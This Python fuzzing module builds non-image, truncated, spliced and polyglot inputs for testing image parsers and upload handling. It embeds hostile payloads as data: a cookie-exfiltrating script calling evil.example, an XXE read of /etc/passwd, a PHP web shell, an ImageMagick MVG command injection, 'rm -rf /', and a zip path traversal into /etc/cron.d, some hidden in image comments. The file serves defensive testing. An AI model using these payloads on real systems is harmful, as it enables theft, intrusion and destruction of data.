"""Bytes that are no picture, next to none, or a picture and something else at once."""

import gzip
import io
import random
import struct
import zipfile
from collections.abc import Callable

from fuzz.samples import encode, photo, plain_samples, png_chunk, samples

HTML = b"<!DOCTYPE html><html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY b "bbbb">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&f;&c;</text></svg>'
)
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
PHP = b"<?php system($_GET['c']); ?>"
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file 4096 string readstring pop print\n"
MVG = b"push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://127.0.0.1/|ls)'\npop graphic-context\n"
ELF = b"\x7fELF\2\1\1\0" + bytes(8) + b"\2\0\x3e\0\1\0\0\0"
SIGNATURES = (
    b"\xff\xd8\xff",
    b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    b"\x89PNG\r\n\x1a\n",
    b"GIF89a",
    b"RIFF\xff\0\0\0WEBPVP8 ",
    b"RIFF\xff\0\0\0WEBPVP8L",
    b"RIFF\xff\0\0\0WEBPVP8X",
    b"BM" + bytes(12) + b"\x28\0\0\0",
    b"II*\0",
    b"MM\0*",
    b"II+\0\x08\0\0\0",
    b"\0\0\0\x1cftypavif\0\0\0\0avifmif1",
    b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
)


def almost_nothing(dice: random.Random, number: int) -> bytes:
    """Nothing, one byte, and the first bytes of a picture."""
    if number == 0:
        return b""
    if number % 3 == 0:
        return bytes([number // 3 % 256])
    data = samples()[dice.choice(sorted(samples()))]
    return data[: dice.randrange(2, 30)]


def other_kind(dice: random.Random, number: int) -> bytes:
    """A web page, a document, a program, an archive, a film, a picture of a kind that is not opened."""
    makers: tuple[Callable[[], bytes], ...] = (
        lambda: HTML,
        lambda: SVG,
        lambda: ENTITIES,
        lambda: PDF,
        lambda: PHP,
        lambda: EPS,
        lambda: MVG,
        lambda: ELF,
        lambda: b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff",
        lambda: b"\xca\xfe\xba\xbe\0\0\0\x34",
        lambda: b"\0asm\1\0\0\0",
        lambda: b"#!/bin/sh\nrm -rf /\n",
        lambda: b'{"image": "cat"}',
        lambda: _zip("cat.jpg", plain_samples()["JPEG"]),
        lambda: gzip.compress(plain_samples()["PNG"], mtime=0),
        lambda: b"BZh91AY&SY",
        lambda: b"RIFF\x24\0\0\0WAVEfmt ",
        lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom",
        lambda: b"ID3\4\0\0\0\0\0\0",
        lambda: b"8BPS\0\1" + bytes(6),
        lambda: b"\0\0\1\0\1\0",
        lambda: b"\0\0\0\x0cjP  \r\n\x87\n",
        lambda: b"SIMPLE  =                    T",
        lambda: b"gimp xcf v003\0",
        lambda: encode(photo(), "PPM"),
        lambda: encode(photo(), "TGA"),
        lambda: encode(photo(), "PCX"),
        lambda: encode(photo().quantize(4), "ICO"),
        lambda: b"BMW is a maker of cars, and no bitmap",
        lambda: dice.randbytes(16),
    )
    return makers[number % len(makers)]() + dice.randbytes(dice.randrange(4, 400))


def only_a_signature(dice: random.Random, number: int) -> bytes:
    """Begins as a picture does, and goes on with anything."""
    return SIGNATURES[number % len(SIGNATURES)] + dice.randbytes(dice.choice([0, 1, 16, 300, 20_000]))


def spliced(dice: random.Random, _number: int) -> bytes:
    """The first part of one picture and the last part of another."""
    first, last = (samples()[name] for name in dice.sample(sorted(samples()), 2))
    return first[: dice.randrange(8, len(first))] + last[dice.randrange(len(last)) :]


def polyglot(dice: random.Random, number: int) -> bytes:
    """A picture that is also a web page, a script, an archive, ...: it may be taken as a picture."""
    other = (HTML, PHP, PDF, SVG, ENTITIES, ELF, _zip("a.html", HTML), _zip("../../etc/cron.d/x", PHP))[number % 8]
    places = (_behind, _in_a_gif_comment, _in_a_jpeg_comment, _in_a_png_text, _as_exif, _before, _gif_and_script)
    return places[number // 8 % len(places)](other + dice.randbytes(4), dice)


def _behind(other: bytes, dice: random.Random) -> bytes:
    return samples()[dice.choice(sorted(samples()))] + other


def _before(other: bytes, dice: random.Random) -> bytes:
    return other + samples()[dice.choice(sorted(samples()))]


def _in_a_gif_comment(other: bytes, _dice: random.Random) -> bytes:
    gif = plain_samples()["GIF"]
    table = 13 + 3 * 2 ** ((gif[10] & 7) + 1)
    blocks = b"".join(bytes([len(part)]) + part for part in _parts(other, 255))
    return gif[:table] + b"!\xfe" + blocks + b"\0" + gif[table:]


def _in_a_jpeg_comment(other: bytes, _dice: random.Random) -> bytes:
    jpeg = plain_samples()["JPEG"]
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(other) + 2) + other + jpeg[2:]


def _in_a_png_text(other: bytes, _dice: random.Random) -> bytes:
    png = plain_samples()["PNG"]
    return png[:33] + png_chunk(b"tEXt", b"Comment\0" + other) + png[33:]


def _as_exif(other: bytes, dice: random.Random) -> bytes:
    return encode(photo(), dice.choice(["JPEG", "PNG", "WEBP"]), exif=b"Exif\0\0" + other)


def _gif_and_script(other: bytes, dice: random.Random) -> bytes:
    """`GIF89a/*...*/=1;`: the size of the picture is the beginning of a comment."""
    return b"GIF89a" + b"/*\1\0\0\0\0" + plain_samples()["GIF"][13:] + b"*/=1;" + other + dice.randbytes(2)


def _parts(data: bytes, size: int) -> list[bytes]:
    return [data[at : at + size] for at in range(0, len(data), size)]


def _zip(name: str, data: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()
